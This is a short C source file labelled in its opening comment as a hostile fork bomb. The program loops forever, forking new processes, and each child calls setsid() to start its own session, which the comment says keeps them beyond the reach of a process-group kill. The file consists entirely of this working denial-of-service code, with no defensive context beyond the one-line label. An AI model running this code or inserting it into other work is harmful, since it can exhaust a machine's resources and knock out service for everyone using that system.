// Hostile: a fork bomb. Every process makes more, in sessions of their own, where killing a group does not find them.
#include <unistd.h>

int main() {
    while (true)
        if (fork() == 0) setsid();
}
